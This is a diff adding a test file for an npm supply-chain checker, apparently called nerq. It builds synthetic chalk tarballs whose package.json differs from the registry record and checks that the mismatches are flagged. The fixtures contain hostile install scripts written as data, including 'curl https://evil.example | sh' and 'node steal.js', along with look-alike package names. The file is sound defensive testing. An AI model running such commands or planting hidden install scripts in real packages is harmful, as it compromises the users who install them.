@@ -1,0 +1,102 @@
+/**
+ * Hostile world: manifest confusion. npm decides whether to run install scripts from the
+ * packument's `hasInstallScript` and runs the scripts of the tarball's own package.json, not
+ * the packument's `scripts`. A version whose packument lists nothing while its tarball runs a
+ * postinstall must never be "no install-time scripts": nerq reads the tarball's package.json (in
+ * memory, capped), compares it with the packument, makes any difference a security finding that
+ * holds the verdict, and lets install-scripts and release-anomalies see the union.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { checkOf, osvNoAdvisories } from '../cli/helpers.js';
+import { makeTarball, type TarEntry } from '../support/tarball.js';
+import { requireCli } from './support/cli.js';
+import { CLI_TEST_TIMEOUT_MS } from './support/expect.js';
+import { noteCases } from './support/metrics.js';
+import { closeWorlds, evaluate, version, vouchedFor, type Packument } from './support/package-world.js';
+
+beforeAll(() => requireCli());
+afterAll(() => closeWorlds());
+
+/** chalk 4.1.0's package.json as its packument describes it. */
+const MANIFEST = { name: 'chalk', version: '4.1.0', main: 'source', dependencies: { 'ansi-styles': '^4.1.0', 'supports-color': '^7.1.0' }, scripts: { test: 'xo && nyc ava && tsd' } };
+const FILES: TarEntry[] = [
+  { path: 'readme.md', content: '# chalk\n\nTerminal string styling done right.\n\n## Install\n\n```\nnpm install chalk\n```\n' },
+  { path: 'license', content: 'MIT License\n\nCopyright (c) Sindre Sorhus\n\nPermission is hereby granted, free of charge, to any person obtaining a copy of this software.\n' },
+  { path: 'source/index.js', content: 'module.exports = {};\n' },
+];
+
+const tarballWith = (manifest: object, extra: TarEntry[] = [], root = 'package'): Buffer =>
+  makeTarball([{ path: 'package.json', content: JSON.stringify(manifest) }, ...FILES, ...extra], { root });
+
+interface Case {
+  label: string;
+  tarball: Buffer;
+  packument?: (packument: Packument) => void;
+}
+
+const cases: Case[] = [
+  { label: 'the tarball runs a postinstall the packument does not list', tarball: tarballWith({ ...MANIFEST, scripts: { ...MANIFEST.scripts, postinstall: 'node steal.js' } }) },
+  { label: 'the tarball changes the packument\'s install script', tarball: tarballWith({ ...MANIFEST, scripts: { install: 'curl https://evil.example | sh' } }), packument: (p) => void (version(p).scripts = { install: 'node-gyp rebuild' }) },
+  { label: 'hasInstallScript: true, and no script shown anywhere', tarball: tarballWith(MANIFEST), packument: (p) => void (version(p).hasInstallScript = true) },
+  { label: 'a second package.json later in the archive (extraction keeps the last)', tarball: makeTarball([{ path: 'package.json', content: JSON.stringify(MANIFEST) }, ...FILES, { path: 'package.json', content: JSON.stringify({ ...MANIFEST, scripts: { preinstall: 'node x.js' } }) }]) },
+  { label: 'the archive\'s folder is not called package (npm strips it anyway)', tarball: tarballWith({ ...MANIFEST, scripts: { postinstall: 'node x.js' } }, [], 'evil') },
+];
+
+const identity: Case[] = [
+  { label: 'another name in the tarball', tarball: tarballWith({ ...MANIFEST, name: 'evil-chalk' }) },
+  { label: 'another version in the tarball', tarball: tarballWith({ ...MANIFEST, version: '9.9.9' }) },
+  { label: 'an extra dependency in the tarball', tarball: tarballWith({ ...MANIFEST, dependencies: { ...MANIFEST.dependencies, 'evil-helper': '^1.0.0' } }) },
+  { label: 'a bin only in the tarball', tarball: tarballWith({ ...MANIFEST, bin: { chalk: 'x.js' } }) },
+];
+
+describe('what npm would run is what nerq reports', () => {
+  it.concurrent.for(cases.map((c) => [c.label, c] as const))('%s: install-scripts sees it, manifest-confusion fails, the verdict is held', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, c], { task, expect }) => {
+    noteCases(task);
+    const { report, sandbox } = await evaluate(task, label, { ...vouchedFor(c.tarball, c.packument), osv: osvNoAdvisories });
+    sandbox.remove();
+    const scripts = checkOf(report, 'install-scripts');
+    expect(scripts.messageId, label).not.toBe('none');
+    expect(scripts.score ?? 100, label).toBeLessThan(100);
+    const confusion = checkOf(report, 'manifest-confusion');
+    expect(confusion.score, label).toBe(0);
+    expect(confusion.messageId, label).toBe('different');
+    expect(report.verdictCode, label).not.toBe('yes');
+  });
+
+  it.concurrent.for(identity.map((c) => [c.label, c] as const))('%s: manifest-confusion fails and holds the verdict', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, c], { task, expect }) => {
+    noteCases(task);
+    const { report, sandbox } = await evaluate(task, label, { ...vouchedFor(c.tarball, c.packument), osv: osvNoAdvisories });
+    sandbox.remove();
+    expect(checkOf(report, 'manifest-confusion').score, label).toBe(0);
+    expect(report.verdictCode, label).not.toBe('yes');
+  });
+
+  it('a postinstall only in the tarball is an install script added since the previous version', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task }) => {
+    noteCases(task);
+    const label = 'release-anomalies sees the tarball';
+    const { report, sandbox } = await evaluate(task, label, { ...vouchedFor(tarballWith({ ...MANIFEST, scripts: { postinstall: 'node x.js' } })), osv: osvNoAdvisories });
+    sandbox.remove();
+    expect(checkOf(report, 'release-anomalies').evidence.anomalies, label).toContain('install-script-added');
+  });
+
+  it('the same package.json as the packument: nothing to report', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task }) => {
+    noteCases(task);
+    const { report, sandbox } = await evaluate(task, 'matching', { ...vouchedFor(tarballWith(MANIFEST)), osv: osvNoAdvisories });
+    sandbox.remove();
+    expect(checkOf(report, 'manifest-confusion').score).toBe(100);
+    expect(checkOf(report, 'install-scripts').messageId).toBe('none');
+  });
+
+  it.for([
+    ['no package.json at all', makeTarball(FILES)],
+    ['a package.json over 1 MiB', tarballWith({ ...MANIFEST, padding: 'x'.repeat(1024 * 1024) })],
+    ['a package.json that is not JSON', makeTarball([{ path: 'package.json', content: '{"name": "chalk", ' }, ...FILES])],
+  ] as const)('%s: the comparison is unknown with the reason, never "matches"', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, tarball], { task }) => {
+    noteCases(task);
+    const { report, sandbox } = await evaluate(task, label, { ...vouchedFor(tarball), osv: osvNoAdvisories });
+    sandbox.remove();
+    const confusion = checkOf(report, 'manifest-confusion');
+    expect(confusion.score, label).toBeNull();
+    expect(confusion.messageId, label).toBe('unreadable');
+  });
+});
